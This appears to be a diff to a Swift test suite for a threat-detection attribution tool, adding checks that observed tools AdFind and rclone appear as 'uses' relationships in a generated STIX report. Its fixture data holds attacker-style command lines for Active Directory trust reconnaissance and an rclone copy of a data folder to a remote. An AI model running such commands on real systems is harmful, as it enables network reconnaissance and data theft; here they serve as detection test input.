@@ -226,10 +226,18 @@ struct StatementTests {
             finding(2, rule: "AdFind recon", ["Image": #"C:\ProgramData\AdFind.exe"#, "CommandLine": #"AdFind.exe -sc trustdmp"#]),
             finding(3, rule: "Exfiltration", ["Image": #"C:\Windows\System32\cmd.exe"#, "CommandLine": #"cmd /c C:\Users\Public\rclone.exe copy C:\data remote: & net use"#]),
         ])
-        let observed = try await CaseAttribution.attribute(case: "named", store: store).result.evidence.observed
+        let attribution = try await CaseAttribution.attribute(case: "named", store: store)
+        let observed = attribution.result.evidence.observed
         #expect(observed[.software("S0552")] == ["AdFind.exe in CommandLine, rule AdFind recon (2 findings)", "AdFind.exe in Image, rule AdFind recon (2 findings)"])
         #expect(observed[.software("S1040")] == ["rclone.exe in CommandLine, rule Exfiltration (1 finding)"])
         #expect(Set(observed.keys.filter { $0.kind == .software }) == [.software("S0552"), .software("S1040")])
+        // The STIX report says the intrusion used them, and where they were seen.
+        let bundle = try STIXBundleReader.read(try attribution.stixBundle(top: 3))
+        let campaign = try #require(bundle.objects.first { $0.type == "campaign" })
+        let adFind = try #require(bundle.objects.first { $0.type == "tool" && $0.attackID == "S0552" })
+        let uses = try #require(bundle.objects.first { $0.relationshipType == "uses" && $0.sourceRef == campaign.id.rawValue && $0.targetRef == adFind.id.rawValue })
+        #expect(uses.objectDescription == "Observed: AdFind.exe in CommandLine, rule AdFind recon (2 findings); AdFind.exe in Image, rule AdFind recon (2 findings)")
+        #expect(bundle.objects.contains { $0.type == "tool" && $0.attackID == "S1040" })
     }
 
     @Test("what a ceiling withholds is named, and the statement says it")
